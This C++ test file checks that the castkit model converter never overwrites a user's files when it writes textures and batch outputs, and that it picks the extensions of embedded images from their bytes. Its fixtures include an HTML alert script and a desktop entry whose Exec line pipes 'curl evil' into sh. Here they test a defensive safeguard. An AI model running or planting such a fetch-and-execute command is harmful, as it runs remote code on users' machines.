// Issue 29 #1: every file castkit writes besides the named output (images unpacked from a glTF
// or DMF, textures copied or converted beside a glTF, a batch's outputs) goes through one
// writer that never replaces a file it did not write: a user's file keeps its bytes, the new
// file takes `name-2.ext` with a warning, the extension of an unpacked image comes from its
// bytes, and a batch gives every input its own output name before anything is written.
#include <castkit/cast/document.hpp>
#include <castkit/cast/nodes.hpp>
#include <fstream>
#include <nlohmann/json.hpp>

#include "../formats/cli_command.hpp"
#include "../test_support.hpp"
#include "character.hpp"
#include "io/base64.hpp"
#include "io/images.hpp"

namespace castkit::test::side_outputs_test {
namespace {

namespace fs = std::filesystem;

std::vector<std::byte> bytes_of(std::string_view text) {
    const auto* data = reinterpret_cast<const std::byte*>(text.data());
    return {data, data + text.size()};
}

// A PNG signature and then `tail`: what castkit takes for a PNG (it never decodes one).
std::vector<std::byte> png_like(std::string_view tail) {
    return bytes_of(std::string("\x89PNG\r\n\x1A\n", 8) + std::string(tail));
}

// A 2 × 2 uncompressed 24-bit TGA, which the glTF export converts to PNG.
std::vector<std::byte> tiny_tga() {
    std::string tga(18, '\0');
    tga[2] = 2;             // uncompressed true colour
    tga[12] = tga[14] = 2;  // width, height
    tga[16] = 24;           // bits per pixel
    tga += std::string(12, '\x7F');
    return bytes_of(tga);
}

const std::vector<std::byte> kUsersFile = bytes_of("the user's own file, not castkit's");

// The character with its material's albedo naming `image`.
cast::Document textured(const std::string& image) {
    cast::Document document = character();
    cast::Material material = document.models()[0].materials()[0];
    cast::File file = material.add_file(image);
    material.set_slot("albedo", file);
    return document;
}

// The path the first material File of `cast_file` names.
std::string texture_path(const fs::path& cast_file) {
    auto document = open_cast(cast_file);
    EXPECT_TRUE(document.has_value()) << cast_file;
    if (!document) return {};
    for (const cast::ConstModel& model : document->models())
        for (const cast::ConstMaterial& material : model.materials())
            for (const cast::ConstFile& file : material.files())
                return std::string(file.path().value_or(""));
    return {};
}

nlohmann::json json_of(const fs::path& path) {
    return nlohmann::json::parse(std::ifstream(path, std::ios::binary));
}

std::string first_image_uri(const fs::path& gltf) { return json_of(gltf)["images"][0]["uri"]; }

class SideOutputFiles : public ::testing::Test {
  protected:
    void SetUp() override {
        dir =
            temp_dir("side-outputs-" +
                     std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()));
        fs::create_directories(dir / "src");
        fs::create_directories(dir / "out");
    }

    // src/box.gltf (the BoxTextured sample) whose one image is embedded as a data URI: `bytes`
    // under `mime`, named `name`.
    void embedded_gltf(const std::string& name, const std::string& mime,
                       const std::vector<std::byte>& bytes) const {
        const fs::path sample = fs::path(CASTKIT_FIXTURES) / "gltf/real/BoxTextured-glTF";
        fs::copy_file(sample / "BoxTextured0.bin", dir / "src/BoxTextured0.bin");
        nlohmann::json gltf = json_of(sample / "BoxTextured.gltf");
        gltf["images"][0] = {{"name", name},
                             {"uri", "data:" + mime + ";base64," + formats::base64_encode(bytes)}};
        std::ofstream(dir / "src/box.gltf", std::ios::binary) << gltf.dump();
    }

    // src/m.dmf whose one texture, named `name`, embeds `bytes` (made from a Cast naming it).
    void embedded_dmf(const std::string& name, const std::vector<std::byte>& bytes) const {
        fs::create_directories(dir / "dmf-source");
        write_bytes(dir / "dmf-source" / (name + ".png"), bytes);
        write_as(textured(name + ".png"), dir / "dmf-source/m.cast");
        const CommandResult made = run_cli(in_dir(dir, "convert {dmf-source/m.cast} {src/m.dmf}"));
        ASSERT_EQ(made.exit_code, 0) << made.err;
    }

    fs::path dir;
};

TEST_F(SideOutputFiles, GltfEmbeddedImageBesideTheOutputNeverReplacesTheUsersFile) {
    const std::vector<std::byte> image = png_like("victim's pixels");
    embedded_gltf("victim", "image/png", image);
    write_bytes(dir / "out/box_victim.png", kUsersFile);
    const CommandResult converted = run_cli(in_dir(dir, "convert {src/box.gltf} {out/box.cast}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_EQ(read_bytes(dir / "out/box_victim.png"), kUsersFile);
    EXPECT_EQ(texture_path(dir / "out/box.cast"), "box_victim-2.png");
    EXPECT_EQ(read_bytes(dir / "out/box_victim-2.png"), image);
    EXPECT_NE(converted.err.find("box_victim-2.png"), std::string::npos) << converted.err;
    EXPECT_NE(converted.err.find("[texture.renamed]"), std::string::npos) << converted.err;
}

TEST_F(SideOutputFiles, GltfEmbeddedImageInTheTexturesFolderNeverReplacesTheUsersFile) {
    const std::vector<std::byte> image = png_like("wall's pixels");
    embedded_gltf("wall", "image/png", image);
    fs::create_directories(dir / "textures");
    write_bytes(dir / "textures/box_wall.png", kUsersFile);
    const CommandResult converted =
        run_cli(in_dir(dir, "convert {src/box.gltf} {out/box.cast} --textures {textures}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_EQ(read_bytes(dir / "textures/box_wall.png"), kUsersFile);
    EXPECT_EQ(read_bytes(dir / "textures/box_wall-2.png"), image);
    EXPECT_EQ(texture_path(dir / "out/box.cast"), "box_wall-2.png");
    EXPECT_NE(converted.err.find("[texture.renamed]"), std::string::npos) << converted.err;
}

// The MIME type is the file's claim; the extension comes from the bytes written.
TEST_F(SideOutputFiles, GltfEmbeddedHtmlIsWrittenAsBinNeverHtml) {
    const std::vector<std::byte> page = bytes_of("<html><script>alert(1)</script></html>");
    embedded_gltf("payload", "text/html", page);
    const CommandResult converted = run_cli(in_dir(dir, "convert {src/box.gltf} {out/box.cast}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_FALSE(fs::exists(dir / "out/box_payload.html"));
    EXPECT_EQ(read_bytes(dir / "out/box_payload.bin"), page);
    EXPECT_EQ(texture_path(dir / "out/box.cast"), "box_payload.bin");
}

TEST_F(SideOutputFiles, GltfEmbeddedDesktopEntryIsWrittenAsBin) {
    const std::vector<std::byte> entry = bytes_of("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n");
    embedded_gltf("a", "application/x-desktop", entry);
    const CommandResult converted = run_cli(in_dir(dir, "convert {src/box.gltf} {out/box.cast}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_FALSE(fs::exists(dir / "out/box_a.x-desktop"));
    EXPECT_EQ(read_bytes(dir / "out/box_a.bin"), entry);
    EXPECT_EQ(texture_path(dir / "out/box.cast"), "box_a.bin");
}

TEST_F(SideOutputFiles, DmfEmbeddedImageBesideTheOutputNeverReplacesTheUsersFile) {
    const std::vector<std::byte> image = png_like("victim's pixels");
    embedded_dmf("victim", image);
    write_bytes(dir / "out/victim.png", kUsersFile);
    const CommandResult converted = run_cli(in_dir(dir, "convert {src/m.dmf} {out/m.cast}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_EQ(read_bytes(dir / "out/victim.png"), kUsersFile);
    EXPECT_EQ(texture_path(dir / "out/m.cast"), "victim-2.png");
    EXPECT_EQ(read_bytes(dir / "out/victim-2.png"), image);
    EXPECT_NE(converted.err.find("[texture.renamed]"), std::string::npos) << converted.err;
}

TEST_F(SideOutputFiles, DmfEmbeddedImageInTheTexturesFolderNeverReplacesTheUsersFile) {
    const std::vector<std::byte> image = png_like("wall's pixels");
    embedded_dmf("wall", image);
    fs::create_directories(dir / "textures");
    write_bytes(dir / "textures/wall.png", kUsersFile);
    const CommandResult converted =
        run_cli(in_dir(dir, "convert {src/m.dmf} {out/m.cast} --textures {textures}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_EQ(read_bytes(dir / "textures/wall.png"), kUsersFile);
    EXPECT_EQ(read_bytes(dir / "textures/wall-2.png"), image);
    EXPECT_EQ(texture_path(dir / "out/m.cast"), "wall-2.png");
    EXPECT_NE(converted.err.find("[texture.renamed]"), std::string::npos) << converted.err;
    // Converting again reuses the file it wrote (the same bytes): no third file.
    ASSERT_EQ(
        run_cli(in_dir(dir, "convert {src/m.dmf} {out/m2.cast} --textures {textures}")).exit_code,
        0);
    EXPECT_EQ(texture_path(dir / "out/m2.cast"), "wall-2.png");
    EXPECT_FALSE(fs::exists(dir / "textures/wall-3.png"));
}

TEST_F(SideOutputFiles, DmfEmbeddedHtmlIsWrittenAsBin) {
    const std::vector<std::byte> page = bytes_of("<html>not an image</html>");
    embedded_dmf("hero", page);
    const CommandResult converted = run_cli(in_dir(dir, "convert {src/m.dmf} {out/m.cast}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_FALSE(fs::exists(dir / "out/hero.png"));
    EXPECT_EQ(read_bytes(dir / "out/hero.bin"), page);
    EXPECT_EQ(texture_path(dir / "out/m.cast"), "hero.bin");
}

// m.cast names wall.tga; the .gltf beside it gets the PNG made from it, and the user's own
// wall.png there stays as it was.
TEST_F(SideOutputFiles, ConvertedTextureBesideAGltfNeverReplacesTheUsersFile) {
    if (!images::can_convert()) GTEST_SKIP() << "this build converts no TGA";
    write_bytes(dir / "src/wall.tga", tiny_tga());
    write_bytes(dir / "src/wall.png", kUsersFile);
    write_as(textured("wall.tga"), dir / "src/m.cast");
    const CommandResult converted = run_cli(in_dir(dir, "convert {src/m.cast} {src/m.gltf}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_EQ(read_bytes(dir / "src/wall.png"), kUsersFile);
    EXPECT_EQ(first_image_uri(dir / "src/m.gltf"), "wall-2.png");
    const std::vector<std::byte> made = read_bytes(dir / "src/wall-2.png");
    ASSERT_GE(made.size(), 8u);
    EXPECT_EQ(std::vector<std::byte>(made.begin(), made.begin() + 8), png_like(""));
    EXPECT_NE(converted.err.find("[texture.renamed]"), std::string::npos) << converted.err;
}

// Batch to .gltf flattens every texture beside its output: two models' diffuse.png from two
// folders are two files, each model showing its own.
TEST_F(SideOutputFiles, BatchKeepsEachModelsOwnTextureOfOneName) {
    const fs::path in = dir / "in";
    fs::create_directories(in / "a_tex");
    fs::create_directories(in / "b_tex");
    write_bytes(in / "a_tex/diffuse.png", png_like("model a"));
    write_bytes(in / "b_tex/diffuse.png", png_like("model b"));
    write_as(textured("a_tex/diffuse.png"), in / "a.cast");
    write_as(textured("b_tex/diffuse.png"), in / "b.cast");
    const CommandResult converted =
        run_cli(in_dir(dir, "convert {in} -o {out} --to gltf --report {report.json}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    const std::string a = first_image_uri(dir / "out/a.gltf");
    const std::string b = first_image_uri(dir / "out/b.gltf");
    EXPECT_NE(a, b);
    EXPECT_EQ(read_bytes(dir / "out" / a), png_like("model a"));
    EXPECT_EQ(read_bytes(dir / "out" / b), png_like("model b"));
    const std::string report = json_of(dir / "report.json").dump();
    EXPECT_NE(report.find("[texture.renamed]"), std::string::npos) << report;
}

// A texture named like a sibling's output (c.gltf) neither replaces it nor makes the sibling
// look up to date: c.gltf is converted, the texture takes c-2.gltf.
TEST_F(SideOutputFiles, BatchTextureNamedLikeASiblingOutputTakesAnotherName) {
    const fs::path in = dir / "in";
    fs::create_directories(in / "tex");
    write_bytes(in / "tex/c.gltf", png_like("an image named c.gltf"));
    write_as(textured("tex/c.gltf"), in / "a.cast");
    write_as(character(), in / "c.gltf");
    const CommandResult converted =
        run_cli(in_dir(dir, "convert {in} -o {out} --to gltf -j 1 --report {report.json}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    EXPECT_NE(converted.out.find("0 skipped"), std::string::npos) << converted.out;
    EXPECT_EQ(first_image_uri(dir / "out/a.gltf"), "c-2.gltf");
    EXPECT_EQ(read_bytes(dir / "out/c-2.gltf"), png_like("an image named c.gltf"));
    const nlohmann::json sibling = json_of(dir / "out/c.gltf");
    EXPECT_EQ(sibling["meshes"].size(), 1u);
    const std::string report = json_of(dir / "report.json").dump();
    EXPECT_NE(report.find("[texture.renamed]"), std::string::npos) << report;
}

// a.glb and a.cast both want a.cast; the later one's full name a.glb.cast is a.glb.cast's own
// output: every input gets a name of its own, named in a warning, and none is skipped.
TEST_F(SideOutputFiles, BatchGivesEveryInputAnOutputOfItsOwn) {
    const fs::path in = dir / "in";
    fs::create_directories(in);
    write_as(character(), in / "a.glb");
    write_as(character(), in / "a.cast");
    cast::Document other = character();
    other.models()[0].set_name("a.glb.cast's own");
    write_as(std::move(other), in / "a.glb.cast");
    const CommandResult converted =
        run_cli(in_dir(dir, "convert {in} -o {out} --to cast -j 1 --report {report.json}"));
    ASSERT_EQ(converted.exit_code, 0) << converted.err;
    const nlohmann::json report = json_of(dir / "report.json");
    std::map<std::string, std::string> outputs;
    for (const nlohmann::json& entry : report["files"]) {
        EXPECT_NE(entry["status"], "skipped") << entry.dump();
        outputs[fs::path(entry["input"].get<std::string>()).filename().string()] =
            fs::path(entry["output"].get<std::string>()).filename().string();
    }
    EXPECT_EQ(outputs["a.cast"], "a.cast");
    EXPECT_EQ(outputs["a.glb.cast"], "a.glb.cast");
    EXPECT_EQ(outputs["a.glb"], "a.glb-2.cast");
    EXPECT_NE(report.dump().find("[output.renamed]"), std::string::npos) << report.dump();
    auto named = open_cast(dir / "out/a.glb.cast");
    ASSERT_TRUE(named.has_value());
    EXPECT_EQ(named->models()[0].name().value_or(""), "a.glb.cast's own");
}

// The user's file is never taken for castkit's own: --force rewrites the planned outputs and
// nothing else.
TEST_F(SideOutputFiles, ForcedBatchRewritesItsOutputsButNeverAUsersFile) {
    const fs::path in = dir / "in";
    fs::create_directories(in / "tex");
    write_bytes(in / "tex/diffuse.png", png_like("the model's"));
    write_as(textured("tex/diffuse.png"), in / "a.cast");
    write_bytes(dir / "out/diffuse.png", kUsersFile);
    for (int run = 0; run < 2; ++run) {
        const CommandResult converted =
            run_cli(in_dir(dir, "convert {in} -o {out} --to gltf --force"));
        ASSERT_EQ(converted.exit_code, 0) << converted.err;
    }
    EXPECT_EQ(read_bytes(dir / "out/diffuse.png"), kUsersFile);
    EXPECT_EQ(first_image_uri(dir / "out/a.gltf"), "diffuse-2.png");
    EXPECT_FALSE(fs::exists(dir / "out/diffuse-3.png"));
}

}  // namespace
}  // namespace castkit::test::side_outputs_test
